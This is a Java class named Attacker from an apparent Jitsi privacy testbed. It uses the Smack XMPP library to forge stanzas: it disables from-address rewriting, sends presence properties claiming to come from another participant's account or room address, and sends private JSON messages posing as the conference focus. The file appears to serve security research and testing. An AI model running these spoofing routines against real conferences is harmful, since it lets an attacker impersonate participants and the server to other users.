package jitsiprivacy.testbed;

import org.jitsi.xmpp.extensions.jitsimeet.JsonMessageExtension;
import org.jivesoftware.smack.XMPPConnection.FromMode;
import org.jivesoftware.smack.packet.Message;
import org.jivesoftware.smack.packet.MessageBuilder;
import org.jivesoftware.smack.packet.PresenceBuilder;
import org.jivesoftware.smack.packet.StandardExtensionElement;

/** A participant that says, in the name of another, what no client would send. */
public final class Attacker {
  private final Client client;

  Attacker(Client client) {
    this.client = client;
    // Else Smack leaves out who a stanza is from.
    client.connection().setFromMode(FromMode.UNCHANGED);
  }

  /** A property in a presence that it sends to the other's address in the room. */
  public void presenceTo(Participant victim, String property, String value) {
    client.send(presence(property, value).to(victim.occupantJid()).build());
  }

  /** A property in a presence to the room that claims to be from the other's account. */
  public void presenceFromAccount(Participant victim, String property, String value) {
    client.send(presence(property, value).from(victim.account()).to(victim.occupantJid()).build());
  }

  /** A property in a presence to an address that claims to be from the other's in the room. */
  public void presenceFromOccupant(Participant victim, String property, String value) {
    client.send(
        presence(property, value)
            .from(victim.occupantJid())
            .to(victim.focusAddress().address())
            .build());
  }

  /** A message of the kind that only the focus sends, privately to another participant. */
  public void messageAsFocus(Participant victim, String json) {
    MessageBuilder message =
        client.connection().getStanzaFactory().buildMessageStanza().ofType(Message.Type.chat);
    client.send(
        message
            .from(victim.focusInRoom())
            .to(victim.occupantJid())
            .addExtension(new JsonMessageExtension(json))
            .build());
  }

  private PresenceBuilder presence(String property, String value) {
    return client
        .connection()
        .getStanzaFactory()
        .buildPresenceStanza()
        .addExtension(
            StandardExtensionElement.builder("jitsi_participant_" + property, "jabber:client")
                .setText(value)
                .build());
  }
}
